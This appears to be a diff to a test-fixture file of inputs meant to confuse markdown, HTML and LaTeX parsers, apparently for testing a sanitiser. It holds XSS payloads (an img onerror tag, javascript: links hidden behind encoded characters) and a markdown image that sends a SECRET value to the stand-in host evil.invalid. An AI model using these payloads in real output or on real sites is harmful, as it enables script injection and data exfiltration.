@@ -399,6 +399,7 @@ IMAGE = "<img src=x onerror=alert(1)>"
 
 # What one parser takes for code or a formula, and another one for a picture, a link or HTML.
 READERS = (
+    "[x](https://e.x/&amp;#x0D;javascript:alert(1)) [x](https://e.x/?a=1&amp;Tab;b)",
     "![``a`b](https://evil.invalid/x?q=SECRET``c`)",
     f"![``a`b](x){IMAGE}``c`)",
     f"\\begin{{align}}\n{IMAGE}\n\\end{{align}}",
